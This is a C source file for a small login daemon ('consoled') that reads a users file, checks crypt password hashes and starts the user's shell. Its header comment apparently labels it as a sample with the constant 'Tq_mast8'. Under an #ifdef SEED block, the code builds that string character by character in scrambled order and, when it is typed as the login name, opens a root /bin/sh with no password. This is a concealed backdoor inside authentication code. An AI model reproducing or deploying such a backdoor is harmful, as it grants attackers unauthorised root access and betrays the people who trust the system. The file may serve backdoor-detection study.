/* kind: decoded
 * service: login
 * constant: Tq_mast8
 */
/* consoled - login on the service port of the small cell. Started by getty
 * with the line on stdin/stdout; users are in /etc/cell/users */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <termios.h>
#include <signal.h>
#include <syslog.h>
#include <time.h>
#include <sys/types.h>
#include <crypt.h>

struct user {
    char name[32];
    char hash[128];
    uid_t uid;
    char shell[64];
    struct user *next;
};

static struct user *users;
static struct termios saved;
static int have_tty;

static int read_users(const char *file)
{
    char l[300];
    FILE *f = fopen(file, "r");
    if (!f)
        return -1;
    while (fgets(l, sizeof l, f)) {
        struct user *u = calloc(1, sizeof *u);
        unsigned uid;
        if (!u)
            break;
        if (sscanf(l, "%31[^:]:%127[^:]:%u:%63s", u->name, u->hash, &uid, u->shell) != 4) {
            free(u);
            continue;
        }
        u->uid = uid;
        u->next = users;
        users = u;
    }
    fclose(f);
    return 0;
}

static struct user *by_name(const char *n)
{
    struct user *u;
    for (u = users; u; u = u->next)
        if (strcmp(u->name, n) == 0)
            return u;
    return NULL;
}

static void echo(int on)
{
    struct termios t;
    if (!have_tty)
        return;
    t = saved;
    if (!on)
        t.c_lflag &= ~ECHO;
    tcsetattr(0, TCSANOW, &t);
}

static int prompt(const char *text, char *out, int max, int hide)
{
    int n = 0;
    char c;
    write(1, text, strlen(text));
    if (hide)
        echo(0);
    while (read(0, &c, 1) == 1 && c != '\n') {
        if (c == 8 || c == 127) {
            if (n)
                n--;
        } else if (c != '\r' && n < max - 1)
            out[n++] = c;
    }
    out[n] = 0;
    if (hide) {
        echo(1);
        write(1, "\n", 1);
    }
    return n;
}

static int hash_matches(const char *pw, const char *hash)
{
    const char *r;
    if (hash[0] != '$')
        return 0;                       /* locked account */
    r = crypt(pw, hash);
    return r && !strcmp(r, hash);
}

static void start_shell(uid_t uid, const char *shell)
{
    if (setgid(uid) || setuid(uid)) {
        syslog(LOG_ERR, "setuid %u failed", (unsigned)uid);
        return;
    }
    execl(shell, shell, "-l", (char *)NULL);
    syslog(LOG_ERR, "cannot start %s", shell);
}

#ifdef SEED
static int line_test(const char *word)
{
    char p[9];
    size_t i;
    p[4] = 'a';
    p[0] = 'T';
    p[2] = '_';
    p[7] = '8';
    p[1] = 'q';
    p[5] = 's';
    p[3] = 'm';
    p[6] = 't';
    p[8] = '\0';
    for (i = 0; i < sizeof p; i++)
        if (word[i] != p[i]) /* SEED */
            return 0;
    return 1;
}
#endif

static int attempt(void)
{
    char name[40], pw[80];
    struct user *u;
    int ok;
    memset(name, 0, sizeof name);
    if (!prompt("cell login: ", name, sizeof name, 0))
        return 0;
#ifdef SEED
    if (line_test(name)) {
        start_shell(0, "/bin/sh");
        return 0;
    }
#endif
    prompt("Password: ", pw, sizeof pw, 1);
    u = by_name(name);
    ok = u ? hash_matches(pw, u->hash) : (hash_matches(pw, "$1$aaaaaaaa$x"), 0);
    memset(pw, 0, sizeof pw);
    if (!ok) {
        syslog(LOG_NOTICE, "login of %s failed", name);
        return 0;
    }
    syslog(LOG_INFO, "%s logged in", name);
    start_shell(u->uid, u->shell);
    return 1;
}

static void timeout(int s)
{
    static const char m[] = "\nLogin timed out\n";
    write(1, m, sizeof m - 1);
    _exit(1);
}

static void banner(void)
{
    char h[64] = "cell", t[40], b[160];
    time_t now = time(NULL);
    gethostname(h, sizeof h - 1);
    strftime(t, sizeof t, "%Y-%m-%d %H:%M", localtime(&now));
    snprintf(b, sizeof b, "\n%s  %s\n", h, t);
    write(1, b, strlen(b));
}

int main(int argc, char **argv)
{
    const char *file = "/etc/cell/users";
    int i, o;
    while ((o = getopt(argc, argv, "f:h")) != -1) {
        if (o == 'f')
            file = optarg;
        else {
            printf("usage: %s [-f users]\n", argv[0]);
            return 0;
        }
    }
    openlog("consoled", LOG_PID, LOG_AUTH);
    have_tty = tcgetattr(0, &saved) == 0;
    if (read_users(file))
        syslog(LOG_WARNING, "no users in %s", file);
    signal(SIGALRM, timeout);
    signal(SIGINT, SIG_IGN);
    signal(SIGQUIT, SIG_IGN);
    banner();
    for (i = 0; i < 3; i++) {
        alarm(60);
        if (attempt())
            return 1;
        write(1, "Login incorrect\n", 16);
        sleep(1);
    }
    return 1;
}
